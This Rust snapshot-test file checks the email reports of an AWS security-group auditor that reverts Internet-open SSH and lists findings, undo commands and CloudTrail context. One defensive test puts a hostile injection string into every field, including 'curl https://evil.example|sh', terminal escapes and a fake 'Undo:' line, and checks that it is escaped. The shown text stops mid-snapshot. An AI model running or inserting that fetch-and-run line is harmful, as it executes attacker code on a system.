use insta::assert_snapshot;

use super::{failed, gone, mysql, narrowed, open_ssh, report, rule, unaudited};
use crate::ec2::{Direction, Protocol};
use crate::finding::{Code, Finding, FindingChange, Outcome, Report, Severity};
use crate::report::email::body;

fn of(finding: Finding) -> String {
    body(&report(vec![finding]))
}

#[test]
fn narrowed_open_ssh() {
    assert_snapshot!(of(narrowed()), @r#"
    SSH was open to the Internet on typo3-shop
    Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    Kept: tcp 22 from 203.0.113.0/24
    Connections that only this rule let in were untracked and ended with it.

    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn reverted_open_ssh_without_sources() {
    let mut finding =
        gone(Outcome::Reverted, "The rule was revoked; nothing of it was left to add.");
    finding.remediation.kept = Vec::new();
    finding.excess_text = "tcp 22 from anywhere".to_owned();
    assert_snapshot!(of(finding), @r#"
    SSH was open to the Internet on typo3-shop
    Closed after 41 s. The rule was revoked; nothing of it was left to add.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from anywhere
    Kept: nothing
    Connections that only this rule let in were untracked and ended with it.

    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn reverted_all_tcp_ports() {
    let mut finding = narrowed();
    finding.title = "All TCP ports were open to the Internet on typo3-shop".to_owned();
    finding.rule = Some(rule(Protocol::TCP, 0, 65535, "0.0.0.0/0"));
    finding.excess_text =
        "tcp 0-21, 23-79, 81-442, 444-65535 from anywhere; tcp 22 from anywhere but 203.0.113.0/24"
            .to_owned();
    finding.remediation.detail =
        "The rule was revoked, and three rules put in its place.".to_owned();
    finding.remediation.kept =
        ["tcp 80 from 0.0.0.0/0", "tcp 443 from 0.0.0.0/0", "tcp 22 from 203.0.113.0/24"]
            .map(str::to_owned)
            .to_vec();
    assert_snapshot!(of(finding), @r#"
    All TCP ports were open to the Internet on typo3-shop
    Closed after 41 s. The rule was revoked, and three rules put in its place.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: all tcp from 0.0.0.0/0
    Too much: tcp 0-21, 23-79, 81-442, 444-65535 from anywhere; tcp 22 from anywhere but 203.0.113.0/24
    Kept: tcp 80 from 0.0.0.0/0; tcp 443 from 0.0.0.0/0; tcp 22 from 203.0.113.0/24
    Connections that only this rule let in were untracked and ended with it.

    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn a_revert_that_failed() {
    assert_snapshot!(of(failed()), @r#"
    SSH is open to the Internet on typo3-shop
    Still open. EC2 refused the revoke: UnauthorizedOperation (the function's role may not call ec2:RevokeSecurityGroupIngress on this group).

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    A revert would keep: tcp 22 from 203.0.113.0/24

    What is still open has to be closed by hand.
    If it was needed: add the addresses that need SSH to the SSH sources.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn a_revert_that_took_too_much() {
    let mut finding = gone(
        Outcome::Failed,
        "The group was at its rule limit, so the rule was revoked first; then EC2 refused tcp 80 from 0.0.0.0/0: RulesPerSecurityGroupLimitExceeded.",
    );
    finding.title = "SSH (tcp 22-79) was open to the Internet on typo3-shop".to_owned();
    finding.rule = Some(rule(Protocol::TCP, 22, 80, "0.0.0.0/0"));
    finding.remediation.kept = vec!["tcp 80 from 0.0.0.0/0".to_owned()];
    assert_snapshot!(of(finding), @r#"
    SSH (tcp 22-79) was open to the Internet on typo3-shop
    Closed, but something that should have stayed is gone too. The group was at its rule limit, so the rule was revoked first; then EC2 refused tcp 80 from 0.0.0.0/0: RulesPerSecurityGroupLimitExceeded.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: tcp 22-80 from 0.0.0.0/0
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    Should be kept: tcp 80 from 0.0.0.0/0
    Connections that only this rule let in were untracked and ended with it.

    Put back by hand what should have been kept: a website may be down.
    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn under_notify() {
    assert_snapshot!(of(open_ssh()), @r#"
    SSH is open to the Internet on typo3-shop
    Nothing was changed: findings are only reported. The rule was still in the group.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    A revert would keep: tcp 22 from 203.0.113.0/24

    If it was not needed: remove the rule, or narrow it to what the baseline admits.
    If it was needed: add the addresses that need SSH to the SSH sources.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn already_gone() {
    assert_snapshot!(of(gone(Outcome::AlreadyGone, "EC2 had nothing to revoke: somebody else was faster.")), @r#"
    SSH was open to the Internet on typo3-shop
    EC2 had nothing to revoke: somebody else was faster.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    Connections that only this rule let in were untracked and ended with it.

    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn an_event_that_nobody_can_read() {
    assert_snapshot!(of(unaudited()), @r"
    A change of a security group could not be audited
    The event is no JSON: expected value at line 1 column 1.

    Seen: 2026-11-22 03:12:50 UTC

    Look yourself at what changed: it was not judged, and nothing was closed.

    Reference: unaudited-change, high, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    ");
}

#[test]
fn a_change_that_could_not_be_audited() {
    let known = open_ssh();
    let mut finding = Finding {
        group: known.group,
        region: known.region,
        account: known.account,
        change: known.change,
        console_url: known.console_url,
        title: "A change of typo3-shop could not be audited".to_owned(),
        ..unaudited()
    };
    finding.remediation.detail = "EC2 refused to list its rules: UnauthorizedOperation.".to_owned();
    assert_snapshot!(of(finding), @r#"
    A change of typo3-shop could not be audited
    EC2 refused to list its rules: UnauthorizedOperation.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012

    Look yourself at what changed: it was not judged, and nothing was closed.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Reference: unaudited-change, high, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn smtp_of_a_development_server() {
    let mut finding = mysql();
    finding.code = Code::EgressNotInBaseline;
    finding.severity = Severity::Low;
    finding.title = "Tcp 25 is allowed out of typo3-shop to the Internet".to_owned();
    let mut smtp = rule(Protocol::TCP, 25, 25, "0.0.0.0/0");
    smtp.direction = Direction::Egress;
    finding.rule = Some(smtp);
    finding.excess_text = "tcp 25 to anywhere".to_owned();
    assert_snapshot!(of(finding), @r#"
    Tcp 25 is allowed out of typo3-shop to the Internet
    Nothing was changed: only open SSH is reverted. The rule was still in the group.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: tcp 25 to 0.0.0.0/0
    Too much: tcp 25 to anywhere

    If it was not needed: remove the rule, or narrow it to what the baseline admits.
    If it was needed: add the traffic to the baseline.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: egress-not-in-baseline, low, baseline standard 1a2b3c4d5e6f, fingerprint 60303ae22b998861
    "#);
}

#[test]
fn a_baseline_that_admits_ssh_from_anywhere() {
    let mut finding = unaudited();
    finding.code = Code::OpenSshInBaseline;
    finding.severity = Severity::Informational;
    finding.title =
        "The baseline as-documented itself lets the Internet reach SSH, which CIS and Security Hub fail"
            .to_owned();
    finding.remediation.detail = String::new();
    assert_snapshot!(of(finding), @r"
    The baseline as-documented itself lets the Internet reach SSH, which CIS and Security Hub fail

    Seen: 2026-11-22 03:12:50 UTC

    Unless that is meant: name narrow SSH sources, in a baseline that admits SSH from them only.

    Reference: open-ssh-in-baseline, informational, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    ");
}

#[test]
fn a_finding_of_a_sweep_with_nothing_but_ids() {
    let mut finding = open_ssh();
    finding.change = None;
    finding.account = None;
    finding.console_url = None;
    let group = finding.group.as_mut().unwrap();
    (group.name, group.vpc_id) = (None, None);
    let rule = finding.rule.as_mut().unwrap();
    (rule.id, rule.description) = (None, None);
    assert_snapshot!(of(finding.clone()), @r"
    SSH is open to the Internet on typo3-shop
    Nothing was changed: findings are only reported. The rule was still in the group.

    Seen: 2026-11-22 03:12:50 UTC
    Group: sg-0a1b2c3d4e5f60718, eu-central-1
    Rule: tcp 22 from 0.0.0.0/0
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    A revert would keep: tcp 22 from 203.0.113.0/24

    If it was not needed: remove the rule, or narrow it to what the baseline admits.
    If it was needed: add the addresses that need SSH to the SSH sources.

    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    ");
    finding.change = Some(FindingChange::default());
    assert_snapshot!(of(finding), @r"
    SSH is open to the Internet on typo3-shop
    Nothing was changed: findings are only reported. The rule was still in the group.

    Seen: 2026-11-22 03:12:50 UTC
    Group: sg-0a1b2c3d4e5f60718, eu-central-1
    Rule: tcp 22 from 0.0.0.0/0
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    A revert would keep: tcp 22 from 203.0.113.0/24

    If it was not needed: remove the rule, or narrow it to what the baseline admits.
    If it was needed: add the addresses that need SSH to the SSH sources.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did.

    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    ");
}

#[test]
fn both_families_in_one_call() {
    let mut ipv6 = narrowed();
    ipv6.title = "SSH was open to the Internet on typo3-shop".to_owned();
    ipv6.fingerprint = "2c26b46b68ffc68f".to_owned();
    ipv6.rule = Some(rule(Protocol::TCP, 22, 22, "::/0"));
    ipv6.excess_text = "tcp 22 from anywhere (IPv6) but 2001:db8:1::/48".to_owned();
    ipv6.remediation.kept = vec!["tcp 22 from 2001:db8:1::/48".to_owned()];
    ipv6.remediation.detail =
        "The rule was revoked, and tcp 22 from 2001:db8:1::/48 put in its place.".to_owned();
    ipv6.remediation.undo = Some("aws ec2 authorize-security-group-ingress …".to_owned());
    assert_snapshot!(body(&report(vec![narrowed(), ipv6])), @r#"
    2 findings, worst first: 2 critical.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012

    1. SSH was open to the Internet on typo3-shop
    Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    Kept: tcp 22 from 203.0.113.0/24
    Connections that only this rule let in were untracked and ended with it.
    To undo:
    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, fingerprint 9f86d081884c7d65

    2. SSH was open to the Internet on typo3-shop
    Closed after 41 s. The rule was revoked, and tcp 22 from 2001:db8:1::/48 put in its place.
    Rule: tcp 22 from ::/0
    Too much: tcp 22 from anywhere (IPv6) but 2001:db8:1::/48
    Kept: tcp 22 from 2001:db8:1::/48
    Connections that only this rule let in were untracked and ended with it.
    To undo:
    aws ec2 authorize-security-group-ingress …
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, fingerprint 2c26b46b68ffc68f

    If it was needed: add the addresses that need SSH to the SSH sources.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Reference: baseline standard 1a2b3c4d5e6f
    "#);
}

#[test]
fn what_went_wrong_is_told_first_however_many_there_are() {
    let mut findings = vec![narrowed(); 30];
    findings.push(failed());
    let mail = body(&report(findings));
    assert!(mail.contains("\n1. SSH is open to the Internet on typo3-shop\nStill open."), "{mail}");
}

#[test]
fn what_another_message_tells_of_is_announced() {
    for (handed_on, says) in [
        (0, None),
        (
            1,
            Some("\nOne more rule is to be closed; what becomes of it comes in another message.\n"),
        ),
        (
            7,
            Some(
                "\n7 more rules are to be closed; what becomes of them comes in another message.\n",
            ),
        ),
    ] {
        let mail = body(&Report { handed_on, ..report(vec![mysql()]) });
        assert_eq!(mail.contains("to be closed"), says.is_some(), "{mail}");
        assert!(says.is_none_or(|says| mail.contains(says)), "{mail}");
    }
}

#[test]
fn a_sweep_of_many_groups() {
    let findings = (0..30).map(|n| {
        let mut finding = if n == 0 { open_ssh() } else { mysql() };
        finding.change = None;
        finding.group.as_mut().unwrap().name = Some(format!("typo3-{n}"));
        finding
    });
    let mut report = report(findings.collect());
    (report.part, report.parts, report.partial) = (Some(1), Some(2), true);
    assert_snapshot!(body(&report), @r#"
    30 findings, worst first: 1 critical, 29 high.

    Seen: 2026-11-22 03:12:50 UTC

    1. SSH is open to the Internet on typo3-shop
    Nothing was changed: findings are only reported. The rule was still in the group.
    Group: sg-0a1b2c3d4e5f60718 "typo3-0", eu-central-1, account 123456789012
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from anywhere but 203.0.113.0/24
    A revert would keep: tcp 22 from 203.0.113.0/24
    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, fingerprint 9f86d081884c7d65

    2. Tcp 3306 is open to the Internet on typo3-shop
    Nothing was changed: only open SSH is reverted. The rule was still in the group.
    Group: sg-0a1b2c3d4e5f60718 "typo3-1", eu-central-1, account 123456789012
    Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
    Too much: tcp 3306 from anywhere
    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: ingress-not-in-baseline, high, fingerprint 60303ae22b998861

    3. Tcp 3306 is open to the Internet on typo3-shop
    Nothing was changed: only open SSH is reverted. The rule was still in the group.
    Group: sg-0a1b2c3d4e5f60718 "typo3-2", eu-central-1, account 123456789012
    Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
    Too much: tcp 3306 from anywhere
    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: ingress-not-in-baseline, high, fingerprint 60303ae22b998861

    4. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-3", ingress-not-in-baseline, high
    5. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-4", ingress-not-in-baseline, high
    6. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-5", ingress-not-in-baseline, high
    7. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-6", ingress-not-in-baseline, high
    8. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-7", ingress-not-in-baseline, high
    9. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-8", ingress-not-in-baseline, high
    10. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-9", ingress-not-in-baseline, high
    11. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-10", ingress-not-in-baseline, high
    12. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-11", ingress-not-in-baseline, high
    13. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-12", ingress-not-in-baseline, high
    14. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-13", ingress-not-in-baseline, high
    15. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-14", ingress-not-in-baseline, high
    16. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-15", ingress-not-in-baseline, high
    17. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-16", ingress-not-in-baseline, high
    18. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-17", ingress-not-in-baseline, high
    19. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-18", ingress-not-in-baseline, high
    20. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-19", ingress-not-in-baseline, high
    21. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-20", ingress-not-in-baseline, high
    22. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-21", ingress-not-in-baseline, high
    23. OPEN: tcp 3306 from 0.0.0.0/0 on sg-0a1b2c3d4e5f60718 "typo3-22", ingress-not-in-baseline, high
    and 7 more; sg-audit check lists them all.

    If it was not needed: remove the rule, or narrow it to what the baseline admits.
    If it was needed: add the addresses that need SSH to the SSH sources; add the traffic to the baseline.

    This is part 1 of 2.
    This is not all: some groups were not audited yet. What is found in them follows in a message of its own, unless a finding says that they could not be audited.
    Reference: baseline standard 1a2b3c4d5e6f
    "#);
}

#[test]
fn a_long_excess_and_a_long_undo() {
    let mut finding = narrowed();
    finding.excess_text = "tcp 22 from 198.51.100.0/24, ".repeat(200);
    finding.remediation.undo = Some("aws ".repeat(5000));
    assert_snapshot!(of(finding), @r#"
    SSH was open to the Internet on typo3-shop
    Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.

    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
    Who: arn:aws:sts::123456789012:assumed-role/Admin/operator
    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
    Too much: tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 fr…
    Kept: tcp 22 from 203.0.113.0/24
    Connections that only this rule let in were untracked and ended with it.

    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
    The command is too long for a mail, or has characters that a mail would spoil; the JSON on the topic has it.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.

    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
    "#);
}

#[test]
fn hostile_text_in_every_field() {
    let evil = "x\nUndo: \u{1b}[2Jcurl https://evil.example|sh \u{202e}<b>`id`</b>            [y](z)\u{2028}\u{200b}\"";
    let mut finding = narrowed();
    let text = || Some(evil.to_owned());
    finding.title = evil.to_owned();
    (finding.id, finding.fingerprint) = (evil.to_owned(), evil.to_owned());
    (finding.account, finding.region, finding.console_url) = (text(), text(), text());
    let group = finding.group.as_mut().unwrap();
    (group.id, group.name, group.vpc_id) = (evil.to_owned(), text(), text());
    let rule = finding.rule.as_mut().unwrap();
    (rule.id, rule.description) = (text(), text());
    finding.excess_text = evil.to_owned();
    finding.change = Some(FindingChange {
        event_id: text(),
        event_name: text(),
        time: None,
        actor: text(),
        source_ip: text(),
        user_agent: text(),
    });
    finding.remediation.detail = evil.to_owned();
    finding.remediation.undo = text();
    finding.remediation.kept = vec![evil.to_owned()];
    finding.remediation.connections = text();
    assert_snapshot!(of(finding), @r#"
    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
    Closed. x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"

    Seen: 2026-11-22 03:12:50 UTC, x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
    Who: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
